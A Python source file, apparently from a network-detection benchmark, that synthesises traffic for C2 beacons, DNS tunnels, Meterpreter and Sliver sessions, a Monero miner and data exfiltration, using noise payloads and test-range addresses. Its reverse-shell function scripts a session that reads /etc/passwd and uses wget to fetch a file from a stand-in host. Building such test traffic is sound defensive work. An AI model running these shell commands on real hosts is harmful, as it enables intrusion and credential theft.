"""Attacks that say little: beacons, tunnels, shells, miners and theft of data."""

from __future__ import annotations

from typing import Final

from benchmarks.byhand.kinds import attack
from benchmarks.byhand.messages import tls
from benchmarks.byhand.packets import CLIENT, SERVER, Reply, Step, Traffic

INFECTED: Final = "198.18.14.66"
CONTROLLER: Final = "198.19.44.8"
OTHER_CONTROLLER: Final = "198.19.44.9"
RESOLVER: Final = "198.18.10.10"


@attack("c2_beacon")
def cs_https_60s(net: Traffic) -> None:
    """An implant calls over HTTPS each minute, a fifth of it jitter."""
    for at in net.paced(30, 48, 60):
        net.connection(at, INFECTED, (CONTROLLER, 443), tls(net, 450, 180), rtt=0.04)


@attack("c2_beacon")
def cs_https_10s(net: Traffic) -> None:
    """An implant calls over HTTPS every ten seconds."""
    for at in net.paced(60, 9, 11):
        net.connection(at, INFECTED, (CONTROLLER, 443), tls(net, 450, 180), rtt=0.04)


@attack("c2_beacon", "dns_tunnel")
def cs_dns_beacon(net: Traffic) -> None:
    """An implant asks for a name of its own every fifteen seconds."""
    for at in net.paced(60, 13.5, 16.5):
        name = f"7a{net.random.randrange(1 << 16):04x}.2c5d81aa.ns1.updates-example.com"
        net.dns(at, INFECTED, RESOLVER, name, reply=Reply(data=b"\0\0\0\0"))


@attack("c2_beacon")
def drawn_names(net: Traffic) -> None:
    """An implant looks for its controller under names that it draws, a dozen a minute, of which hardly one exists."""
    for at in net.paced(150, 2, 8):
        letters = "".join(net.random.choice("bcdfghklmnoprstuwxyaei") for _ in range(net.random.randrange(9, 17)))
        reply = Reply() if net.random.random() < 0.01 else Reply(3)
        net.dns(at, INFECTED, RESOLVER, f"{letters}.{net.random.choice(['com', 'net', 'ru', 'info'])}", reply=reply)


@attack("dns_tunnel")
def dnscat2(net: Traffic) -> None:
    """A shell whose words are names of DNS."""
    for at in net.paced(400, 0.05, 1.0):
        data = net.noise(net.random.choice([9, 9, 9, 30, 60])).hex()
        name = ".".join(data[begin : begin + 62] for begin in range(0, len(data), 62)) + ".c.example.org"
        kind = net.random.choice([16, 5, 15])
        net.dns(at, INFECTED, RESOLVER, name, kind, Reply(data=b"\x20" + net.noise(16).hex().encode()))


@attack("c2_beacon")
def sliver_mtls(net: Traffic) -> None:
    """An implant that keeps one TLS connection and says a word every fifteen seconds."""
    talk = tls(net, 300, 300)
    for _ in range(60):
        talk += [
            (CLIENT, b"\x17\3\3\0\x31" + net.noise(49), 15 * net.random.uniform(0.95, 1.05)),
            (SERVER, b"\x17\3\3\0\x2d" + net.noise(45), 0.02),
        ]
    net.connection(0, INFECTED, (OTHER_CONTROLLER, 8888), talk, rtt=0.05, end="none")


@attack("c2_beacon")
def meterpreter_tcp(net: Traffic) -> None:
    """A stage is loaded, then the controller asks every ten seconds on the same connection."""
    talk: list[Step] = [(SERVER, net.noise(4) + net.noise(175000 // 8), 0.5)]
    for _ in range(50):
        talk += [
            (SERVER, net.noise(88), net.random.uniform(8, 12)),
            (CLIENT, net.noise(net.random.choice([120, 152, 152])), 0.05),
        ]
    net.connection(0, INFECTED, (OTHER_CONTROLLER, 4444), talk, rtt=0.05, end="none")


@attack("c2_beacon")
def reverse_shell_bash(net: Traffic) -> None:
    """A web server's shell calls out, and somebody types."""
    prompt = b"\nroot@web01:/var/www# "
    commands = (
        b"id\n",
        b"uname -a\n",
        b"cat /etc/passwd\n",
        b"ls -la /home\n",
        b"ps aux\n",
        b"netstat -antp\n",
        b"wget http://198.19.2.4/x -O /tmp/x\n",
    )
    talk: list[Step] = [(CLIENT, b"bash: no job control in this shell" + prompt, 0.1)]
    for command in commands * 3:
        shown = command + b"x" * net.random.randrange(30, 3000) + prompt
        talk += [(SERVER, command, net.random.uniform(1, 9)), (CLIENT, shown, 0.04)]
    net.connection(0, "198.18.100.80", (OTHER_CONTROLLER, 4444), talk, rtt=0.06)


@attack("c2_beacon")
def miner_stratum(net: Traffic) -> None:
    """A miner of cryptocurrency reports to its pool in the clear."""
    login = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edf","pass":"x","agent":"XMRig/6.21"}}\n'
    job = b'{"id":1,"jsonrpc":"2.0","result":{"id":"a","job":{"blob":"' + b"0" * 152 + b'"}}}\n'
    share = b'{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"a","job_id":"b","nonce":"c","result":"'
    talk: list[Step] = [(CLIENT, login, 0.1), (SERVER, job, 0.1)]
    for _ in range(40):
        talk += [
            (CLIENT, share + b"f" * 64 + b'"}}\n', net.random.expovariate(1 / 15)),
            (SERVER, b'{"id":2,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}\n', 0.06),
        ]
    net.connection(0, INFECTED, ("198.19.15.9", 3333), talk, rtt=0.05, end="none")


@attack("c2_beacon")
def emotet_posts(net: Traffic) -> None:
    """An implant posts noise to random paths every half minute, at first to several hosts."""
    hosts = net.strangers(5)
    for turn, at in enumerate(net.paced(45, 25, 40)):
        body = net.noise(net.random.choice([390, 404, 420]))
        head = b"POST /%s/%s/ HTTP/1.1\r\n" % (net.noise(4).hex().encode(), net.noise(3).hex().encode())
        head += b"Host: 198.19.2.4:8080\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 7.0)\r\n"
        talk = [
            (CLIENT, head + b"Content-Length: %d\r\n\r\n" % len(body) + body, 0.0003),
            (SERVER, b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Length: 132\r\n\r\n" + net.noise(132), 0.15),
        ]
        host = hosts[turn % 5 if turn < 8 else 0]
        net.connection(at, INFECTED, (host, 8080), talk, rtt=0.08)


@attack("exfiltration")
def ftp_upload(net: Traffic) -> None:
    """Nine megabytes leave over FTP."""
    talk = [
        (SERVER, b"220 ready\r\n", 0.05),
        (CLIENT, b"USER up\r\n", 0.05),
        (SERVER, b"331 \r\n", 0.05),
        (CLIENT, b"PASS x\r\n", 0.05),
        (SERVER, b"230 ok\r\n", 0.05),
        (CLIENT, b"PASV\r\n", 0.1),
        (SERVER, b"227 Entering Passive Mode (198,19,44,9,200,10)\r\n", 0.05),
        (CLIENT, b"STOR docs.7z\r\n", 0.05),
        (SERVER, b"150 ok\r\n", 0.05),
        (SERVER, b"226 ok\r\n", 20),
    ]
    net.connection(0, INFECTED, (OTHER_CONTROLLER, 21), talk, rtt=0.04)
    net.connection(0.8, INFECTED, (OTHER_CONTROLLER, 51210), [(CLIENT, b"7z" + net.noise(1000) * 9000, 0.1)], rtt=0.04)


@attack("exfiltration")
def https_upload(net: Traffic) -> None:
    """Fifteen megabytes leave over HTTPS in six parts."""
    for turn in range(6):
        talk = tls(net, 300, 100)
        talk += [
            (CLIENT, b"\x17\3\3\x40\0" + net.noise(999) * 2500, 0.1),
            (SERVER, b"\x17\3\3\0\x50" + net.noise(80), 0.05),
        ]
        net.connection(turn * 25.0, INFECTED, (OTHER_CONTROLLER, 443), talk, rtt=0.04)
